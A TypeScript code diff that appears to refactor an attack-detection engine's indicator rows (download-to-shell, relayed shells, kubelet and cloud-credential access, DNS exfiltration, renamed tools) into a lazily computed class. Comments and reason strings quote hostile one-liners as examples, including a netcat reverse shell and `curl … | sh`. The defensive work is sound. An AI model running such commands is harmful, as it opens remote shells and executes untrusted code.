@@ -55,6 +55,8 @@ export interface Subject {
   written(): CommandSegment[];
   writtenArgs(): ParsedArgs[];
   executions(): Executions;
+  /** The rename reason (MITRE T1036.003), high or medium, when the utility ran under another name. */
+  renamed(): { severity: "high" | "medium"; reason: string } | undefined;
   /** Each ancestor (payload shells first) in a suspicious place, and the service script it is, if known. */
   placedAncestors(): { where: string; index: number; words: string; known?: string }[];
 }
@@ -68,7 +70,9 @@ export interface IndicatorRow {
   test(subject: Subject): readonly string[];
 }
 
-const one = (reason: string | undefined): readonly string[] => (reason === undefined ? [] : [reason]);
+/** What a row returns when it does not apply (shared: most rows do not, for most candidates). */
+const NONE: readonly string[] = Object.freeze([]);
+const one = (reason: string | undefined): readonly string[] => (reason === undefined ? NONE : [reason]);
 
 /** The kubelet API row of one severity: its test keeps the first kubelet call only when it is that grave. */
 function kubeletRow(id: string, severity: "critical" | "high", reason: string): IndicatorRow {
@@ -101,7 +105,7 @@ export const INDICATORS: readonly IndicatorRow[] = Object.freeze([
       'what the utility downloads or prints is piped into a shell or interpreter, or run through a substitution (`curl … | sh`, `bash -c "$(curl …)"`)',
     test: ({ candidate }) => {
       const { segment, utility } = candidate;
-      if (segment === undefined || !["download", "relay", "dns"].includes(utility.category)) return [];
+      if (segment === undefined || !["download", "relay", "dns"].includes(utility.category)) return NONE;
       const feed = feedsInterpreter(segment);
       return one(feed && describeFeed(utility, feed));
     },
@@ -118,7 +122,7 @@ export const INDICATORS: readonly IndicatorRow[] = Object.freeze([
     reason: "a relay carries an interactive shell (`sh -i 2>&1 | nc host port`)",
     test: (s) => {
       const segment = s.segment();
-      if (segment === undefined || s.candidate.utility.category !== "relay") return [];
+      if (segment === undefined || s.candidate.utility.category !== "relay") return NONE;
       const shell = relayedShell(segment);
       return one(shell && `${s.name} relays an interactive shell (${quote(shell)} | ${s.name})`);
     },
@@ -137,7 +141,7 @@ export const INDICATORS: readonly IndicatorRow[] = Object.freeze([
           return [`the file ${s.name} downloads (${quote(shown)}) is then executed`];
         }
       }
-      return [];
+      return NONE;
     },
   },
   kubeletRow(
@@ -160,7 +164,7 @@ export const INDICATORS: readonly IndicatorRow[] = Object.freeze([
             : `${endpoint.written} = ${endpoint.address}`;
         return [`${name} reaches a cloud credential endpoint: ${quote(shown)} (${endpoint.label})`];
       }
-      return [];
+      return NONE;
     },
   },
   {
@@ -183,7 +187,7 @@ export const INDICATORS: readonly IndicatorRow[] = Object.freeze([
             : "contacts a host whose name looks";
         return [`${s.name} ${what} like DNS exfiltration (${look}): ${quote(host)}`];
       }
-      return [];
+      return NONE;
     },
   },
   {
@@ -215,7 +219,7 @@ export const INDICATORS: readonly IndicatorRow[] = Object.freeze([
       const shown = s.segment() ?? s.written()[0];
       const head = shown === undefined ? undefined : commandWords(shown.argv)[0];
       if (head === undefined || lookupUtility(head) !== undefined || lookupPattern(head) === undefined)
-        return [];
+        return NONE;
       return [
         `${s.name} is called through a shell pattern (${quote(head)}), which hides its name from matching`,
       ];
@@ -253,7 +257,7 @@ export const INDICATORS: readonly IndicatorRow[] = Object.freeze([
             : "writes what it receives into";
         return [`${s.name} ${verb} ${location.words}: ${quote(shown)}`];
       }
-      return [];
+      return NONE;
     },
   },
   {
@@ -275,7 +279,7 @@ export const INDICATORS: readonly IndicatorRow[] = Object.freeze([
     severity: "medium",
     reason: "the utility itself runs from a writable or suspicious place",
     test: ({ candidate }) => {
-      if (candidate.path === undefined) return [];
+      if (candidate.path === undefined) return NONE;
       const location = suspiciousLocation(candidate.path, candidate.cwd);
       return one(location && `the utility ${quote(candidate.path)} runs from ${location.words}`);
     },
@@ -330,7 +334,7 @@ export function assess(
   context: AncestorContext,
   executionsCache: ExecutionsCache,
 ): Assessment {
-  const subject = subjectOf(candidate, event, context, executionsCache);
+  const subject = new Reading(candidate, event, context, executionsCache);
   const { name, args } = subject;
   const indicators: { severity: Severity; reason: string }[] = [];
   let failed = false;
@@ -375,79 +379,114 @@ export function assess(
   return { candidate, severity, reasons, ...(benign !== undefined ? { benign } : {}) };
 }
 
-function subjectOf(
-  candidate: Candidate,
-  event: ExecEvent,
-  context: AncestorContext,
-  executionsCache: ExecutionsCache,
-): Subject {
-  const name = candidate.utility.name;
-  const args = candidate.words.slice(1, MAX_ARGS + 1);
-  const parsed = parseArgs(args, specFor(name));
-  // A process event's own argv lacks redirections and pipes; the ancestor's command line that started
-  // this very command (`sh -c 'cat /tmp/f | sh -i 2>&1 | nc x 4444 > /tmp/f'`) has them.
-  const segment = memo(() => candidate.segment ?? sameCommandInAncestors(candidate, context));
-  const written = memo(() => (candidate.segment === undefined ? writtenInAncestors(candidate, context) : []));
-  return {
-    candidate,
-    event,
-    context,
-    name,
-    args,
-    parsed,
-    segment,
-    written,
-    outputs: memo(() => downloadOutputs(name, parsed, segment())),
-    targets: memo(() => targetsOf(name, parsed)),
-    writtenArgs: memo(() =>
-      written().map((s) => parseArgs(commandWords(s.argv).slice(1, MAX_ARGS + 1), specFor(name))),
-    ),
-    executions: memo(() => {
-      let executions = executionsCache.get(candidate.segments);
-      if (executions === undefined) {
-        executions = executionsOf([...(candidate.segments ?? []), ...context.segments]);
-        executionsCache.set(candidate.segments, executions);
-      }
-      return executions;
-    }),
-    placedAncestors: memo(() => {
-      const lineage = lineageOf(candidate, event);
-      const out: { where: string; index: number; words: string; known?: string }[] = [];
-      lineage.forEach((ancestor, index) => {
-        const where = ancestor.path ?? ancestor.name;
-        if (where === undefined) return;
-        const location = suspiciousLocation(where);
-        if (location === undefined) return;
-        const known = knownServiceScript(where, lineage.slice(index + 1), name, args);
-        out.push({ where, index, words: location.words, ...(known !== undefined ? { known } : {}) });
-      });
-      return out;
-    }),
-  };
-}
+/** A {@link Subject} whose shared readings are computed on first use, once per candidate. */
+class Reading implements Subject {
+  readonly name: string;
+  readonly args: string[];
+  readonly parsed: ParsedArgs;
+  #segment?: { value: CommandSegment | undefined };
+  #written?: CommandSegment[];
+  #outputs?: Output[];
+  #targets?: Targets;
+  #writtenArgs?: ParsedArgs[];
+  #executions?: Executions;
+  #renamed?: { value: { severity: "high" | "medium"; reason: string } | undefined };
+  #placed?: { where: string; index: number; words: string; known?: string }[];
 
-function memo<T>(compute: () => T): () => T {
-  let done = false;
-  let value: T;
-  return () => {
-    if (!done) {
-      value = compute();
-      done = true;
+  constructor(
+    readonly candidate: Candidate,
+    readonly event: ExecEvent,
+    readonly context: AncestorContext,
+    private readonly executionsCache: ExecutionsCache,
+  ) {
+    this.name = candidate.utility.name;
+    this.args = candidate.words.slice(1, MAX_ARGS + 1);
+    this.parsed = parseArgs(this.args, specFor(this.name));
+  }
+
+  segment(): CommandSegment | undefined {
+    // A process event's own argv lacks redirections and pipes; the ancestor's command line that started
+    // this very command (`sh -c 'cat /tmp/f | sh -i 2>&1 | nc x 4444 > /tmp/f'`) has them.
+    this.#segment ??= {
+      value: this.candidate.segment ?? sameCommandInAncestors(this.candidate, this.context),
+    };
+    return this.#segment.value;
+  }
+
+  written(): CommandSegment[] {
+    this.#written ??=
+      this.candidate.segment === undefined ? writtenInAncestors(this.candidate, this.context) : [];
+    return this.#written;
+  }
+
+  outputs(): Output[] {
+    this.#outputs ??= downloadOutputs(this.name, this.parsed, this.segment());
+    return this.#outputs;
+  }
+
+  targets(): Targets {
+    this.#targets ??= targetsOf(this.name, this.parsed);
+    return this.#targets;
+  }
+
+  writtenArgs(): ParsedArgs[] {
+    this.#writtenArgs ??= this.written().map((s) =>
+      parseArgs(commandWords(s.argv).slice(1, MAX_ARGS + 1), specFor(this.name)),
+    );
+    return this.#writtenArgs;
+  }
+
+  executions(): Executions {
+    if (this.#executions !== undefined) return this.#executions;
+    const { candidate, context, executionsCache } = this;
+    let executions = executionsCache.get(candidate.segments);
+    if (executions === undefined) {
+      executions = executionsOf([...(candidate.segments ?? []), ...context.segments]);
+      executionsCache.set(candidate.segments, executions);
     }
+    this.#executions = executions;
+    return executions;
+  }
+
+  renamed(): { severity: "high" | "medium"; reason: string } | undefined {
+    if (this.#renamed !== undefined) return this.#renamed.value;
+    const { candidate, name } = this;
+    const renamed = candidate.renamed;
+    let value: { severity: "high" | "medium"; reason: string } | undefined;
+    if (renamed !== undefined) {
+      // Masquerading: a network tool copied or linked under a harmless-looking name.
+      const where =
+        candidate.path === undefined ? undefined : suspiciousLocation(candidate.path, candidate.cwd);
+      const shape = renamed.by === "name" ? "" : `, going by its arguments (${quote(renamed.by)})`;
+      value = {
+        severity: renamed.by === "name" || where !== undefined ? "high" : "medium",
+        reason: `${name} renamed to ${quote(renamed.as)}${shape}`,
+      };
+    }
+    this.#renamed = { value };
     return value;
-  };
+  }
+
+  placedAncestors(): { where: string; index: number; words: string; known?: string }[] {
+    if (this.#placed !== undefined) return this.#placed;
+    const lineage = lineageOf(this.candidate, this.event);
+    const out: { where: string; index: number; words: string; known?: string }[] = [];
+    lineage.forEach((ancestor, index) => {
+      const where = ancestor.path ?? ancestor.name;
+      if (where === undefined) return;
+      const location = suspiciousLocation(where);
+      if (location === undefined) return;
+      const known = knownServiceScript(where, lineage.slice(index + 1), this.name, this.args);
+      out.push({ where, index, words: location.words, ...(known !== undefined ? { known } : {}) });
+    });
+    this.#placed = out;
+    return out;
+  }
 }
 
 function renamedReason(s: Subject, severity: "high" | "medium"): readonly string[] {
-  const { candidate, name } = s;
-  const renamed = candidate.renamed;
-  if (renamed === undefined) return [];
-  // Masquerading (MITRE T1036.003): a network tool copied or linked under a harmless-looking name.
-  const where = candidate.path === undefined ? undefined : suspiciousLocation(candidate.path, candidate.cwd);
-  const grave = renamed.by === "name" || where !== undefined;
-  if (grave !== (severity === "high")) return [];
-  const shape = renamed.by === "name" ? "" : `, going by its arguments (${quote(renamed.by)})`;
-  return [`${name} renamed to ${quote(renamed.as)}${shape}`];
+  const renamed = s.renamed();
+  return renamed === undefined || renamed.severity !== severity ? NONE : [renamed.reason];
 }
 
 function unique<T>(values: T[]): T[] {
